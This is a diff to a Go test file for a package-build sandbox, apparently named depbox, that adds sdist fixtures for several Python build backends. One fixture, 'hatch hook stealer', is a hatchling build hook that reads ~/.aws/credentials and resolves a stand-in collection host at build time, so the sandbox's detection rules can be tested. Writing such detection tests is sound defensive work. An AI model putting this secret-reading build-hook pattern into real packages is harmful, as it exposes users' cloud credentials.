@@ -63,9 +63,44 @@ func TestBuildSdist(t *testing.T) {
 			"PKG-INFO": pkgInfo("build-hangs", "0.1"),
 			"setup.py": "while True:\n    pass\n",
 		}},
+		// The other common PEP 517 backends, from Debian's packages
+		// (scripts/install-deps).
+		{name: "flit", wheel: "flit_sdist-1.5-py2.py3-none-any.whl", files: map[string]string{
+			"PKG-INFO":       pkgInfo("flit-sdist", "1.5"),
+			"pyproject.toml": "[build-system]\nrequires = ['flit_core>=3.2,<4']\nbuild-backend = 'flit_core.buildapi'\n\n[project]\nname = 'flit_sdist'\nversion = '1.5'\ndescription = 'a flit project'\n",
+			"flit_sdist.py":  "VALUE = 1\n",
+		}, evidence: func(b *profile.Behavior) bool { return true }},
+		{name: "hatchling", wheel: "hatch_sdist-0.3-py2.py3-none-any.whl", files: map[string]string{
+			"PKG-INFO":                pkgInfo("hatch-sdist", "0.3"),
+			"pyproject.toml":          "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n[project]\nname = 'hatch-sdist'\nversion = '0.3'\n",
+			"hatch_sdist/__init__.py": "VALUE = 1\n",
+		}, evidence: func(b *profile.Behavior) bool { return true }},
+		{name: "poetry", wheel: "poetry_sdist-0.2.0-py2.py3-none-any.whl", files: map[string]string{
+			"PKG-INFO":                 pkgInfo("poetry-sdist", "0.2.0"),
+			"pyproject.toml":           "[build-system]\nrequires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n\n[tool.poetry]\nname = 'poetry-sdist'\nversion = '0.2.0'\ndescription = 'a poetry project'\nauthors = ['Nobody <nobody@example.invalid>']\n",
+			"poetry_sdist/__init__.py": "VALUE = 1\n",
+		}, evidence: func(b *profile.Behavior) bool { return true }},
+		{name: "hatch hook stealer", wheel: "hatch_stealer-0.1-py2.py3-none-any.whl", files: map[string]string{
+			"PKG-INFO":       pkgInfo("hatch-stealer", "0.1"),
+			"pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n\n[project]\nname = 'hatch-stealer'\nversion = '0.1'\n\n[tool.hatch.build.hooks.custom]\n",
+			"hatch_build.py": "# TEST FIXTURE imitating an install-time stealer in a hatchling build hook; runs only in depbox's sandbox.\n" +
+				"import os, socket\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n" +
+				"class CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n" +
+				"        try:\n            open(os.path.expanduser('~/.aws/credentials')).read()\n        except OSError:\n            pass\n" +
+				"        try:\n            socket.getaddrinfo('collect.hatch-stealer.invalid', 443)\n        except OSError:\n            pass\n",
+			"hatch_stealer/__init__.py": "",
+		}, rules: "DBX005 DBX008", evidence: func(b *profile.Behavior) bool {
+			return slices.ContainsFunc(b.Files, func(f profile.File) bool { return f.Path == "/home/sbx_user/.aws/credentials" }) &&
+				slices.ContainsFunc(b.DNS, func(d profile.DNSQuery) bool { return strings.HasPrefix(d.Name, "collect.hatch-stealer.invalid") })
+		}},
+		{name: "setuptools-scm", wheel: "scm_sdist-4.2-py3-none-any.whl", files: map[string]string{
+			"PKG-INFO":              pkgInfo("scm-sdist", "4.2"),
+			"pyproject.toml":        "[build-system]\nrequires = ['setuptools>=45', 'setuptools_scm[toml]>=6.2']\nbuild-backend = 'setuptools.build_meta'\n\n[project]\nname = 'scm-sdist'\ndynamic = ['version']\n\n[tool.setuptools_scm]\n",
+			"scm_sdist/__init__.py": "VALUE = 1\n",
+		}, evidence: func(b *profile.Behavior) bool { return true }},
 		{name: "no backend", problem: "build-failed", files: map[string]string{
 			"PKG-INFO":       pkgInfo("other-backend", "0.1"),
-			"pyproject.toml": "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n",
+			"pyproject.toml": "[build-system]\nrequires = ['maturin>=1,<2']\nbuild-backend = 'maturin'\n",
 		}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
